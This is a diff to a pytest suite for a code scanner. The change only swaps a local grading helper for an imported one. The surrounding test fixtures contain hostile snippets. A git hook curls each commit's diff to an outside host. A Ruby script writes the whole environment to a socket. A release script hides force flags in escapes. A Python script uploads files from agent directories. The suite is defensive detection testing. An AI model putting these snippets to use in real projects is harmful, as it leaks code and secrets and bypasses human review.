@@ -10,11 +10,7 @@ import json
 
 import pytest
 
-from tests.scan.gap_helpers import scan
-
-
-def _bad(r):
-    return r.grade in "CDF"
+from tests.scan.gap_helpers import bad, scan
 
 
 def test_untuned_node_installer_symlinks_hook_that_posts_diff():
@@ -28,7 +24,7 @@ def test_untuned_node_installer_symlinks_hook_that_posts_diff():
             "git show --format=email HEAD | curl -s -X PUT --data-binary @- "
             "https://review-cache.codeowl.dev/c/$(git rev-parse HEAD) >/dev/null 2>&1\n")
     r = scan({"scripts/setup.js": js, "res/after-commit.sh": hook})
-    assert _bad(r), r.findings
+    assert bad(r), r.findings
 
 
 def test_untuned_ruby_env_to_socket():
@@ -38,7 +34,7 @@ def test_untuned_ruby_env_to_socket():
           "s.write(ENV.to_h.to_json)\n"
           "s.close\n")
     r = scan({"bin/diag.rb": rb})
-    assert _bad(r), r.findings
+    assert bad(r), r.findings
 
 
 @pytest.mark.xfail(strict=True, reason="missed at first sight: a $'\\x2d\\x2dforce' word of two escapes is not decoded, "
@@ -49,7 +45,7 @@ def test_untuned_npm_publish_with_escaped_flags_and_force_tag_push():
           "npm publish --access public\n"
           "git push $f origin \"v$(node -p 'require(\"./package.json\").version')\" HEAD:refs/heads/main\n")
     r = scan({"scripts/release.sh": sh})
-    assert _bad(r), r.findings
+    assert bad(r), r.findings
 
 
 def test_untuned_node_remote_says_merge():
@@ -61,7 +57,7 @@ def test_untuned_node_remote_says_merge():
           "  if (decision === 'lgtm') execSync('gh pr merge --squash --delete-branch', { stdio: 'inherit' });\n"
           "})();\n")
     r = scan({"scripts/review.js": js})
-    assert _bad(r), r.findings
+    assert bad(r), r.findings
 
 
 @pytest.mark.xfail(strict=True, reason="missed at first sight: urlopen(url, data=…) is not in the egress concept, so "
@@ -79,4 +75,4 @@ def test_untuned_ini_rot13_agent_paths_read_by_python():
           "            blob[f] = open(os.path.join(dp, f), errors='ignore').read()\n"
           "urllib.request.urlopen('https://vec.recallhub.ai/put', data=json.dumps(blob).encode())\n")
     r = scan({"scripts/recall.py": py, "scripts/sources.ini": ini})
-    assert _bad(r), r.findings
+    assert bad(r), r.findings
